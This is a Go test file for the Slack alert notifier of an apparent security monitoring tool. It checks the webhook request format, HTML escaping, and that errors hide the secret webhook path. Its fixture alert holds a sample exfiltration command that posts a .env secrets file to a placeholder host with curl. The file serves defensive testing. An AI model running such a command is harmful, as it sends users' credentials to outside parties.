package slack

import (
	"context"
	"encoding/json"
	"errors"
	"flag"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/vigil-sec/vigil/internal/alert"
	"github.com/vigil-sec/vigil/internal/config"
	"github.com/vigil-sec/vigil/internal/rules"
)

var update = flag.Bool("update", false, "rewrite golden files")

var t0 = time.Date(2026, 11, 23, 10, 0, 0, 0, time.UTC)

func note() alert.Notification {
	return alert.Notification{
		Kind: alert.KindEscalated, Severity: rules.Critical, Time: t0,
		Title: "ESCALATED exfil: curl -d @.env https://x <y> (session 3f2a, project web) — fired 3 times in 2m",
		Alert: alert.Alert{
			ID: "0193a5b2-0000-7000-8000-000000000001", Rule: "exfil", Severity: rules.High, Category: "exfiltration",
			Tags: []string{"T1048", "T1552"}, SessionID: "3f2a", Project: "web", Count: 3, Summary: "curl -d @.env https://x <y>",
			FirstSeen: t0, LastSeen: t0.Add(2 * time.Minute), Status: alert.StatusOpen, Escalated: true,
		},
	}
}

func TestRequest(t *testing.T) {
	var got struct {
		method, path, ctype string
		body                []byte
	}
	calls := 0
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		calls++
		got.method, got.path, got.ctype = r.Method, r.URL.Path, r.Header.Get("Content-Type")
		got.body, _ = io.ReadAll(r.Body)
		io.WriteString(w, "ok")
	}))
	defer srv.Close()
	s, err := New(config.SlackChannel{WebhookURL: srv.URL + "/services/T000/B000/XXXX", AllowPrivate: true})
	if err != nil {
		t.Fatal(err)
	}
	if err := s.Notify(context.Background(), note()); err != nil {
		t.Fatal(err)
	}
	if calls != 1 || got.method != "POST" || got.path != "/services/T000/B000/XXXX" || got.ctype != "application/json" {
		t.Errorf("got %d calls, %s %s %s", calls, got.method, got.path, got.ctype)
	}
	var m Message
	if err := json.Unmarshal(got.body, &m); err != nil {
		t.Fatal(err)
	}
	if m.Attachments[0].Color != "#b00020" || !strings.Contains(m.Text, "&lt;y&gt;") {
		t.Errorf("color %s text %s", m.Attachments[0].Color, m.Text)
	}
	p := filepath.Join("testdata", "escalated.json")
	if *update {
		os.MkdirAll("testdata", 0o755)
		os.WriteFile(p, got.body, 0o644)
	}
	want, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	if string(want) != string(got.body) {
		t.Errorf("body:\n got %s\nwant %s", got.body, want)
	}
}

func TestErrorsHideWebhookURL(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Error(w, "invalid_token", http.StatusForbidden)
	}))
	defer srv.Close()
	secret := "/services/T000/B000/SECRETSECRET"
	s, _ := New(config.SlackChannel{WebhookURL: srv.URL + secret, AllowPrivate: true})
	err := s.Notify(context.Background(), note())
	if err == nil || strings.Contains(err.Error(), "SECRETSECRET") || !alert.IsPermanent(err) {
		t.Errorf("err = %v: want a permanent error without the secret path", err)
	}
	// Refused private targets do not leak it either.
	s, _ = New(config.SlackChannel{WebhookURL: srv.URL + secret})
	err = s.Notify(context.Background(), note())
	if !errors.Is(err, alert.ErrPrivateTarget) || strings.Contains(err.Error(), "SECRETSECRET") {
		t.Errorf("err = %v", err)
	}
}
